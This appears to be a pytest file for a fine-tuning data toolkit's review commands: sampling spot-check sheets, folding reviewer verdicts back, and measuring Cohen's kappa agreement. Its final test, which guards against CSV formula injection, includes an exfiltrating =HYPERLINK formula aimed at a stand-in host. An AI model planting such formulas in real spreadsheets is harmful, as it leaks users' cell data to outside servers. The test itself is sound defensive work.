"""Review tools: ``sft data sample`` (a spot-check sheet, JSONL + Excel CSV), ``sft data review``
(verdicts folded back, rejects quarantined with the reason) and ``sft data agree`` (Cohen's
kappa, checked against a textbook example). Real files, the CLI in a real subprocess."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from sftkit.core.errors import DataError
from sftkit.data.agreement import cohen_kappa
from sftkit.data.review import COLUMNS, read_sheet, sample, sheet_size
from sftkit.data.rows import load_rows
from wfcli import run_data


def _rows(n: int, ids: bool = True) -> list[dict]:
    out = []
    for i in range(n):
        row = {"messages": [{"role": "user", "content": f"第{i}家公司2023年营业收入是多少？"},
                            {"role": "assistant", "content": f"营业收入为{i}.5亿元，同比增长{i}%。"}],
               "meta": {"chunk": f"doc#p1-c{i}"}}
        out.append({"id": f"doc#p1-c{i}#q1", **row} if ids else row)
    return out


def _write(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def test_sheet_size_follows_the_guide(tmp_path):
    assert sheet_size(1000, 50) == 50 and sheet_size(1000, 100) == 100
    assert sheet_size(2500, 75) == 188  # ceil(187.5)
    assert sheet_size(20, 50) == 1  # a tiny file is still checked
    assert sheet_size(0, 50) == 0
    convs = load_rows(_write(tmp_path / "d.jsonl", _rows(30))).conversations
    with pytest.raises(DataError, match="50-100 rows per thousand"):
        sample(convs, 30, 0)
    assert len(sample(convs, 30, 0, allow_any=True)) == 1
    a, b = sample(convs, 100, 1, allow_any=True), sample(convs, 100, 1, allow_any=True)
    assert a == b and len(a) == 3 and len({r["id"] for r in a}) == 3


@pytest.fixture
def data(tmp_path) -> Path:
    return _write(tmp_path / "pairs.jsonl", _rows(40))


def test_sample_writes_jsonl_and_excel_csv(data, tmp_path):
    r = run_data("sample", data, "--per-thousand", "100", "--seed", "7", "--json")
    assert r.code == 0, r.err
    rep = r.json
    assert (rep["rows"], rep["sampled"]) == (40, 4)
    jsonl, csv_file = Path(rep["sheet"]), Path(rep["csv"])
    assert jsonl == tmp_path / "pairs.review.jsonl" and csv_file == tmp_path / "pairs.review.csv"
    raw = csv_file.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert table[0] == COLUMNS and len(table) == 5
    by_id = {x["id"]: x for x in _rows(40)}
    for row in table[1:]:
        rec = dict(zip(COLUMNS, row, strict=True))
        src = by_id[rec["id"]]
        assert rec["prompt"] == src["messages"][0]["content"] and rec["response"] == src["messages"][1]["content"]
        assert rec["source"].startswith(f"{data}:") and rec["verdict"] == rec["reason"] == rec["reviewer"] == ""
    assert [json.loads(x)["id"] for x in jsonl.read_text(encoding="utf-8").splitlines()] == [t[0] for t in table[1:]]
    again = run_data("sample", data, "--per-thousand", "100", "--seed", "7")
    assert again.code == 2 and "already exists" in again.err
    bad = run_data("sample", data, "--per-thousand", "20", "--out", tmp_path / "s.jsonl")
    assert bad.code == 2 and "--any-rate" in bad.err


def _fill(csv_file: Path, verdicts: list[tuple[str, str, str, str | None]], encoding: str = "utf-8-sig") -> None:
    """Fill the sheet as a reviewer in Excel would: (verdict, reason, reviewer, new response)."""
    text = csv_file.read_bytes().decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    for row, (verdict, reason, who, response) in zip(table, verdicts, strict=False):
        row.update(verdict=verdict, reason=reason, reviewer=who)
        if response is not None:
            row["response"] = response
    buf = io.StringIO()
    w = csv.DictWriter(buf, COLUMNS, lineterminator="\r\n")
    w.writeheader()
    w.writerows(table)
    csv_file.write_bytes(buf.getvalue().encode(encoding))


def test_review_folds_verdicts_back(data, tmp_path):
    sheet = Path(run_data("sample", data, "--per-thousand", "100", "--json").json["csv"])
    ids = [r["id"] for _, r in read_sheet(sheet)]
    _fill(sheet, [("通过", "", "张三", None), ("reject", "数字与原文不符", "张三", None),
                  ("fix", "", "李四", "营业收入为3.5亿元。"), ("", "", "", None)])
    _write(data, list(reversed(_rows(40))))  # re-sorted since sampling: rows are found by id
    r = run_data("review", sheet, "--json")
    assert r.code == 1, r.err  # one sampled row has no verdict yet
    rep = r.json
    assert (rep["accept"], rep["reject"], rep["fix"], rep["reviewed"]) == (1, 1, 1, 3)
    assert rep["unreviewed"] == [ids[3]] and rep["unknown"] == []
    assert rep["error_rate"] == pytest.approx(2 / 3) and rep["estimated_bad_rows"] == 27
    kept = [json.loads(x) for x in (tmp_path / "pairs.reviewed.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(kept) == 39 and ids[1] not in {k["id"] for k in kept}
    fixed = next(k for k in kept if k["id"] == ids[2])
    assert fixed["messages"][1]["content"] == "营业收入为3.5亿元。"
    assert fixed["meta"]["review"] == {"verdict": "fix", "reviewer": "李四"} and fixed["meta"]["chunk"]
    (q,) = [json.loads(x) for x in (tmp_path / "pairs.quarantine.jsonl").read_text(encoding="utf-8").splitlines()]
    assert (q["id"], q["reason"], q["reviewer"]) == (ids[1], "数字与原文不符", "张三")
    untouched = next(k for k in kept if k["id"] == ids[3])
    assert untouched == {**next(x for x in _rows(40) if x["id"] == ids[3])}
    again = run_data("review", sheet)
    assert again.code == 2 and "already exists" in again.err


def test_review_refuses_unknown_verdicts(data, tmp_path):
    sheet = Path(run_data("sample", data, "--per-thousand", "100", "--json").json["csv"])
    _fill(sheet, [("accept", "", "", None), ("maybe", "", "", None)])
    r = run_data("review", sheet)
    assert r.code == 2 and f"{sheet}:3: verdict 'maybe'" in r.err
    assert not (tmp_path / "pairs.reviewed.jsonl").exists()


def test_sheet_saved_by_chinese_excel_as_gb18030(data):
    sheet = Path(run_data("sample", data, "--per-thousand", "50", "--json").json["csv"])
    _fill(sheet, [("拒绝", "答非所问", "王五", None)], encoding="gb18030")
    row = read_sheet(sheet)[0][1]
    assert (row["verdict"], row["reason"], row["reviewer"]) == ("拒绝", "答非所问", "王五")
    assert row["prompt"].endswith("营业收入是多少？")


def test_rows_without_ids_match_by_content(tmp_path):
    data = _write(tmp_path / "plain.jsonl", _rows(20, ids=False))
    sheet = Path(run_data("sample", data, "--per-thousand", "50", "--json").json["sheet"])
    (_, row), = read_sheet(sheet)
    assert row["id"].startswith("sha1:")
    lines = sheet.read_text(encoding="utf-8").splitlines()
    filled = {**json.loads(lines[0]), "verdict": "reject", "reason": "重复"}
    sheet.write_text(json.dumps(filled, ensure_ascii=False) + "\n", encoding="utf-8")
    _write(data, [_rows(30, ids=False)[-1], *_rows(20, ids=False)])  # a row added on top since sampling
    r = run_data("review", sheet, "--json")
    assert r.code == 0, r.err
    assert r.json["quarantined"] == 1 and r.json["kept"] == 20


def _sheet(path: Path, verdicts: list[str]) -> Path:
    return _write(path, [{"id": f"r{i}", "source": f"d.jsonl:{i}", "prompt": "问", "response": "答",
                          "verdict": v, "reason": "", "reviewer": path.stem} for i, v in enumerate(verdicts)])


def test_kappa_textbook_example(tmp_path):
    # Cohen's kappa, the classic 2x2 example (50 items): both yes 20, A yes/B no 5, A no/B yes 10,
    # both no 15. p_o = 0.7; p_e = 0.5*0.6 + 0.5*0.4 = 0.5; kappa = (0.7-0.5)/(1-0.5) = 0.4.
    a = ["accept"] * 20 + ["accept"] * 5 + ["reject"] * 10 + ["reject"] * 15 + ["accept", "reject"]
    b = ["accept"] * 20 + ["reject"] * 5 + ["accept"] * 10 + ["reject"] * 15 + ["", ""]
    r = run_data("agree", _sheet(tmp_path / "a.jsonl", a), _sheet(tmp_path / "b.jsonl", b), "--json")
    assert r.code == 0, r.err
    rep = r.json
    assert rep["rows"] == 50 and rep["kappa"] == pytest.approx(0.4) and rep["percent_agreement"] == pytest.approx(0.7)
    assert rep["interpretation"] == "fair"
    assert rep["confusion"] == {"accept": {"accept": 20, "reject": 5}, "reject": {"accept": 10, "reject": 15}}
    assert rep["per_label"]["accept"] == {"a": 25, "b": 30, "both": 20, "agreement": pytest.approx(40 / 55)}
    assert rep["only_a"] == ["r50", "r51"] and rep["only_b"] == []
    assert len(rep["disagreements"]) == 15 and rep["reviewers_a"] == ["a"]
    low = run_data("agree", tmp_path / "a.jsonl", tmp_path / "b.jsonl", "--min-kappa", "0.6")
    assert low.code == 1 and "kappa 0.400 (fair)" in low.out


def test_kappa_edge_cases():
    assert cohen_kappa([("a", "a"), ("b", "b"), ("c", "c")]) == 1.0
    assert cohen_kappa([("a", "a"), ("a", "b"), ("b", "a"), ("b", "b")]) == 0.0  # chance level
    assert cohen_kappa([("a", "a"), ("a", "a")]) is None  # one label throughout: undefined
    assert cohen_kappa([]) is None


def test_formula_cells_are_text_in_the_csv_and_read_back_unchanged(tmp_path):
    """Drafted text is untrusted: a cell a spreadsheet would run as a formula (=, +, -, @) is written with a
    leading apostrophe in the CSV, and the sheet reads back the original text (JSONL unchanged)."""
    from sftkit.data.review import write_sheet

    evil = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+1", "-5%：净利润下降", "@SUM(A1)", "正常的回答"]
    rows = [{"id": f"r{i}", "source": "f.jsonl:1", "prompt": "问题", "response": r, "verdict": "", "reason": "",
             "reviewer": ""} for i, r in enumerate(evil)]
    jsonl, out = write_sheet(rows, tmp_path / "s.review.jsonl")
    cells = [r["response"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))]
    assert cells[:4] == [f"'{r}" for r in evil[:4]] and cells[4] == "正常的回答"
    assert [r["response"] for _, r in read_sheet(out)] == evil
    assert [json.loads(x)["response"] for x in jsonl.read_text(encoding="utf-8").splitlines()] == evil
